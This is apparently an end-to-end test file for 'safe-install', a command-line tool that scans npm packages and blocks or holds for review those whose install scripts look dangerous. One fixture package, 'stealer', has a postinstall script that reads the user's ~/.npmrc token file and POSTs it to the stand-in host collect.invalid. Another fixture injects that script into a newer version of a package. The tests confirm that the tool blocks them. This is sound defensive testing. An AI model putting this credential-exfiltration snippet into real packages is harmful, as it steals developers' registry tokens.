import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { reportSchema } from '../../src/report/index.js';
import { plain } from './made.js';
import { type MadePackage, packMade, startRegistry, type TestRegistry } from './registry.js';

// the command as users have it: bin/ and dist/, a process of its own
const BIN = fileURLToPath(new URL('../../bin/safe-install.js', import.meta.url));

interface Ended {
  code: number | null;
  stdout: string;
  stderr: string;
}

let registry: TestRegistry;
let root: string;

const stealer: MadePackage = {
  manifest: { name: 'stealer', version: '1.0.0', scripts: { postinstall: 'node steal.js' } },
  files: {
    'steal.js': [
      "const fs = require('node:fs');",
      "const https = require('node:https');",
      "const token = fs.readFileSync(require('node:os').homedir() + '/.npmrc', 'utf8');",
      "const request = https.request({ host: 'collect.invalid', method: 'POST' });",
      'request.end(token);',
      '',
    ].join('\n'),
  },
};

const worker: MadePackage = {
  manifest: { name: 'worker', version: '1.0.0', scripts: { postinstall: 'node work.js' } },
  files: { 'work.js': "require('node:fs').writeFileSync('built.txt', 'built');\n" },
};

const sleeper: MadePackage = {
  manifest: { name: 'sleeper', version: '1.0.0', scripts: { postinstall: 'node wait.js' } },
  files: { 'wait.js': 'setTimeout(() => {}, 120000);\n' },
};

beforeAll(async () => {
  registry = await startRegistry();
  for (const made of [plain('calm', '1.0.0'), stealer, worker, sleeper]) await registry.publish(made);
});
afterAll(() => registry.stop());

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'si-cli-'));
  await mkdir(join(root, 'project'));
  await write('package.json', JSON.stringify({ name: 'p', version: '1.0.0' }));
});
afterEach(() => rm(root, { recursive: true, force: true }));

const at = (...parts: string[]) => join(root, 'project', ...parts);
const write = (file: string, text: string) => writeFile(at(file), text);
const json = async (file: string) => JSON.parse(await readFile(at(file), 'utf8'));

function start(argv: string[]) {
  return spawn(process.execPath, [BIN, ...argv], {
    cwd: at(),
    stdio: ['ignore', 'pipe', 'pipe'],
    env: {
      PATH: process.env['PATH'],
      HOME: join(root, 'home'),
      SAFE_INSTALL_HOME: join(root, 'state'),
      npm_config_registry: registry.url,
      npm_config_cache: join(root, 'cache'),
      npm_config_globalconfig: join(root, 'none'),
    },
  });
}

async function run(...argv: string[]): Promise<Ended> {
  const child = start(argv);
  let [stdout, stderr] = ['', ''];
  child.stdout.on('data', (data) => {
    stdout += data;
  });
  child.stderr.on('data', (data) => {
    stderr += data;
  });
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  return { code, stdout, stderr };
}

describe('usage', () => {
  test('prints version and help on stdout', async () => {
    const { version } = JSON.parse(
      await readFile(fileURLToPath(new URL('../../package.json', import.meta.url)), 'utf8'),
    );
    expect(await run('--version')).toEqual({ code: 0, stdout: `${version}\n`, stderr: '' });
    const help = await run('--help');
    expect([help.code, help.stderr]).toEqual([0, '']);
    expect(help.stdout).toContain('safe-install help <command>');
    expect((await run('install', '--help')).stdout).toContain('--sarif <file>');
  });

  test('tells help of a command where npm’s configuration cannot be read', async () => {
    await mkdir(at('.npmrc'));
    const told = await run('help', 'scan');
    expect([told.code, told.stderr]).toEqual([0, '']);
    expect(told.stdout).toContain('Usage: safe-install scan');
    expect((await run('help', 'sacn')).code).toBe(1);
  });

  test('refuses unknown flags, slips of commands, and a missing value, with exit code 1 and nothing written', async () => {
    for (const argv of [['--omitt=dev'], ['isntall', 'calm'], ['calm', '--sarif'], ['ci', 'calm'], ['scan']]) {
      const ended = await run(...argv);
      expect([ended.code, ended.stdout]).toEqual([1, '']);
      expect(ended.stderr).toMatch(/^safe-install error E[A-Z]+ .+\n/);
    }
    expect(existsSync(at('node_modules'))).toBe(false);
  });
});

describe('an install', () => {
  test('prints npm’s line on stdout and progress on stderr', async () => {
    const ended = await run('calm', '-D');
    expect(ended.code, ended.stderr).toBe(0);
    expect(ended.stdout).toMatch(/added 1 package in /);
    expect(ended.stderr).toMatch(/^scanned 1 package/m);
    expect((await json('package.json')).devDependencies).toEqual({ calm: '^1.0.0' });
  });

  test('with --json prints one object that the schema accepts, and nothing else on stdout', async () => {
    const ended = await run('worker', '--json');
    expect(ended.code, ended.stderr).toBe(0);
    const report = reportSchema.parse(JSON.parse(ended.stdout));
    expect(report).toMatchObject({ command: 'install', exitCode: 0, changes: { added: 1 } });
    expect(report.scripts).toMatchObject([{ package: 'worker@1.0.0', event: 'postinstall', exitCode: 0 }]);
    expect(report.scripts[0]!.sandbox).not.toBe('none');
    expect(existsSync(at('node_modules/worker/built.txt'))).toBe(true);
  });

  test('that is blocked exits with 10, shows the slice, writes the reports and nothing else', async () => {
    const before = await readFile(at('package.json'), 'utf8');
    const ended = await run(
      'calm',
      'stealer',
      '--sarif',
      '../out.sarif',
      '--html',
      '../out.html',
      '--markdown',
      '../out.md',
      '--github',
    );
    expect(ended.code, ended.stderr).toBe(10);
    expect(ended.stdout).toContain('block stealer@1.0.0');
    expect(ended.stdout).toContain('readFileSync');
    expect(ended.stderr).toContain('safe-install error EBLOCKED');
    expect(ended.stderr).toMatch(/^::error file=node_modules\/stealer\/steal\.js/m);
    const sarif = JSON.parse(await readFile(join(root, 'out.sarif'), 'utf8'));
    expect(sarif.runs[0].results[0].locations[0].physicalLocation.artifactLocation.uri).toBe(
      'node_modules/stealer/steal.js',
    );
    expect(await readFile(join(root, 'out.html'), 'utf8')).toContain('stealer@1.0.0');
    expect(await readFile(join(root, 'out.md'), 'utf8')).toContain('`stealer@1.0.0`');
    expect(await readFile(at('package.json'), 'utf8')).toBe(before);
    expect([existsSync(at('node_modules')), existsSync(at('package-lock.json'))]).toEqual([false, false]);
  });

  test('with --silent says nothing, also when it is blocked', async () => {
    expect(await run('stealer', '--silent')).toEqual({ code: 10, stdout: '', stderr: '' });
  });

  test('that is interrupted exits with 130, ends the script and leaves nothing behind', async () => {
    const child = start(['sleeper']);
    let stderr = '';
    child.stderr.on('data', (data) => {
      stderr += data;
    });
    const ended = new Promise<number | null>((resolve) => child.on('close', resolve));
    await expect.poll(() => existsSync(at('node_modules/sleeper/wait.js')), { timeout: 60_000 }).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 1500));
    child.kill('SIGINT');
    expect(await ended, stderr).toBe(130);
    expect(existsSync(at('node_modules/sleeper'))).toBe(false);
    expect(existsSync(at('package-lock.json'))).toBe(false);
    expect((await json('package.json')).dependencies).toBeUndefined();
  });
});

describe('policy', () => {
  test('that is not valid, or has an expired exception, exits with 14 before anything is written', async () => {
    for (const text of [
      'scripts: never\n',
      'exceptions: [{ package: calm, reason: r, expires: 2020-01-01 }]\n',
      'sandbox: { profiles: [none-such] }\n',
    ]) {
      await write('safe-install.yaml', text);
      const ended = await run('calm');
      expect([ended.code, existsSync(at('node_modules'))], ended.stderr).toEqual([14, false]);
      expect(ended.stderr).toContain('safe-install error E');
    }
  });

  test('print shows what holds; --policy is taken instead', async () => {
    await write('safe-install.yaml', 'extends: strict\n');
    await write('other.yaml', 'onReview: fail\n');
    expect((await run('policy', 'print')).stdout).toMatch(
      /^# from .*safe-install\.yaml\n[\s\S]*scripts: approved-only/,
    );
    const other = JSON.parse((await run('policy', 'print', '--json', '--policy', 'other.yaml')).stdout);
    expect(other.policy).toMatchObject({ scripts: 'run', onReview: 'fail' });
  });

  test('grant writes the policy file, and says what it changed', async () => {
    const ended = await run('grant', 'worker', '--host', 'files.example');
    expect([ended.code, ended.stdout]).toEqual([
      0,
      `${at('safe-install.yaml')}\n+ grants:\n+   worker:\n+     hosts:\n+       - files.example\n`,
    ]);
    expect((await run('grant', 'no-such-profile')).code).toBe(1);
  });
});

describe('a review', () => {
  beforeEach(() => write('safe-install.yaml', 'thresholds: { review: 5, block: 100 }\n'));

  test('exits with 11 in CI; after approve these bytes install; after deny no script runs', async () => {
    const first = await run('stealer');
    expect([first.code, existsSync(at('node_modules'))], first.stderr).toEqual([11, false]);
    expect(first.stderr).toContain('safe-install approve stealer@1.0.0');

    const approved = await run('approve', 'stealer', '--reason', 'a test', '--expires', '30d');
    expect(approved.code, approved.stderr).toBe(0);
    const lock = await json('safe-install.lock');
    expect(lock.approvals['stealer@1.0.0']).toMatchObject({ reason: 'a test', grant: null });
    expect(lock.approvals['stealer@1.0.0'].integrity).toMatch(/^sha512-/);
    expect((await json('package.json')).allowScripts).toEqual({ 'stealer@1.0.0': true });
    expect((await run('approvals')).stdout).toMatch(/^approved stealer@1\.0\.0 by .*: a test$/m);

    const second = await run('stealer', '--json');
    const report = reportSchema.parse(JSON.parse(second.stdout));
    expect(report.packages[0]!.decision).toMatchObject({ action: 'allow', runScripts: true, approval: 'approved' });
    expect(report.scripts[0]!.package).toBe('stealer@1.0.0');

    await rm(at('node_modules'), { recursive: true, force: true });
    const denied = await run('deny', 'stealer', '--reason', 'no');
    expect(denied.code).toBe(0);
    expect((await json('package.json')).allowScripts).toEqual({ stealer: false });
    const third = await run('stealer', '--json');
    expect(third.code, third.stderr).toBe(0);
    expect(reportSchema.parse(JSON.parse(third.stdout)).scripts).toEqual([]);
  });

  test('an approval that has ended counts as none, and says so', async () => {
    expect((await run('approve', 'stealer')).code).toBe(0);
    const lock = await json('safe-install.lock');
    lock.approvals['stealer@1.0.0'].expires = '2020-01-01';
    await write('safe-install.lock', JSON.stringify(lock));
    const ended = await run('stealer');
    expect(ended.code).toBe(11);
    expect(ended.stdout).toContain('The approval of stealer@1.0.0 ended on 2020-01-01');

    await write('safe-install.yaml', 'scripts: approved-only\nthresholds: { review: 100, block: 100 }\n');
    const report = reportSchema.parse(JSON.parse((await run('stealer', '--json')).stdout));
    expect(report.packages[0]!.decision).toMatchObject({ runScripts: false, approval: 'unreviewed' });
  });

  test('a blocked package cannot be approved', async () => {
    await rm(at('safe-install.yaml'));
    const ended = await run('approve', 'stealer');
    expect([ended.code, existsSync(at('safe-install.lock'))]).toEqual([10, false]);
  });
});

describe('scan and explain', () => {
  test('scan of a tarball exits by its verdict; explain tells why', async () => {
    await writeFile(join(root, 'stealer.tgz'), await packMade(stealer));
    await writeFile(join(root, 'calm.tgz'), await packMade(plain('calm', '1.0.0')));
    expect((await run('scan', '../calm.tgz')).code).toBe(0);
    const scanned = await run('scan', '../calm.tgz', '../stealer.tgz', '--json');
    expect(scanned.code).toBe(10);
    expect(reportSchema.parse(JSON.parse(scanned.stdout)).packages.map(({ verdict }) => verdict.action)).toEqual([
      'allow',
      'block',
    ]);
    const explained = await run('explain', 'stealer');
    expect(explained.code, explained.stderr).toBe(0);
    expect(explained.stdout).toMatch(/postinstall: node steal\.js[\s\S]*What would change it:[\s\S]*exception/);
    expect((await run('explain', 'no-such-package')).code).toBe(1);
  });
});

describe('other commands', () => {
  test('diff shows what a newer version can do that the older could not', async () => {
    await registry.publish({
      ...worker,
      manifest: { ...worker.manifest, version: '1.1.0', scripts: { postinstall: 'node work.js && node steal.js' } },
      files: { ...worker.files, ...stealer.files },
    });
    const ended = await run('diff', 'worker@1.0.0', 'worker@1.1.0');
    expect(ended.code, ended.stderr).toBe(0);
    expect(ended.stdout).toContain('worker@1.0.0 → worker@1.1.0');
    expect(ended.stdout).toContain('+ postinstall: node work.js && node steal.js');
    expect(ended.stdout).toContain('+ net:collect.invalid');
    expect(ended.stdout).toContain('readFileSync');
    const json = JSON.parse((await run('diff', 'worker@1.0.0', 'worker@1.1.0', '--json')).stdout);
    expect(json).toMatchObject({ before: 'worker@1.0.0', after: 'worker@1.1.0', removed: [] });
  });

  test('rules test checks a rule, tries it, and fails where the expectation does not hold', async () => {
    const rule = fileURLToPath(new URL('../../rules/behaviours/secret-file-exfiltration.yaml', import.meta.url));
    await writeFile(join(root, 'stealer.tgz'), await packMade(stealer));
    await writeFile(join(root, 'calm.tgz'), await packMade(plain('calm', '1.0.0')));
    expect((await run('rules', 'test', rule, '--on', '../stealer.tgz', '--expect', 'match')).code).toBe(0);
    expect((await run('rules', 'test', rule, '--on', '../calm.tgz', '--expect', 'match')).code).toBe(1);
    await write('x.yaml', 'id: x\n');
    expect((await run('rules', 'test', 'x.yaml')).code).toBe(14);
  });

  test('cache counts, verifies and prunes what installs left', async () => {
    expect((await run('calm')).code).toBe(0);
    const info = JSON.parse((await run('cache', 'info', '--json')).stdout);
    expect(info).toMatchObject({ folder: join(root, 'state'), packages: 1, verdictSegments: 1 });
    expect(JSON.parse((await run('cache', 'verify', '--json')).stdout)).toMatchObject({
      checked: 1,
      damagedAndRemoved: 0,
    });
    expect((await run('cache', 'prune', '--days', 'x')).code).toBe(1);
    expect(JSON.parse((await run('cache', 'prune', '--all', '--json')).stdout)).toMatchObject({ removed: 2 });
    expect(JSON.parse((await run('cache', 'info', '--json')).stdout)).toMatchObject({ packages: 0, verdictBytes: 0 });
  });
});
